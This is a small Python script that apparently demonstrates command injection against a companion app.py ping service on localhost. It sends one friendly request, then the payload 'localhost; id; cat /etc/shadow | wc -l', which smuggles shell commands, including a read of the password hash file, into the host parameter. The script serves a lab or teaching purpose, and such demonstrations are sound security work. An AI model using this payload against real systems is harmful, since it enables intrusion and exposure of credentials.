#!/usr/bin/env python3
"""What a visitor asks the application of app.py: first something friendly, then something that he should not be able to."""

import argparse
import html
import re
from http.client import HTTPConnection
from urllib.parse import quote

FRIENDLY = "localhost"
ATTACK = "localhost; id; cat /etc/shadow | wc -l"


def ask(connection, host):
    path = f"/ping?host={quote(host)}"
    print(f"> GET {path}")
    connection.request("GET", path)
    response = connection.getresponse()
    page = response.read().decode()
    shown = re.search(r"<pre>(.*)</pre>", page, re.DOTALL)
    print(f"< {response.status} {response.reason}")
    for line in html.unescape(shown.group(1) if shown else page).splitlines():
        print(f"<   {line}")


def main():
    arguments = argparse.ArgumentParser(description="Visit the application of app.py, then attack it.")
    arguments.add_argument("--port", type=int, default=8088)
    connection = HTTPConnection("127.0.0.1", arguments.parse_args().port, timeout=20)
    print("A friendly request:")
    ask(connection, FRIENDLY)
    print("The attack:")
    ask(connection, ATTACK)


if __name__ == "__main__":
    main()
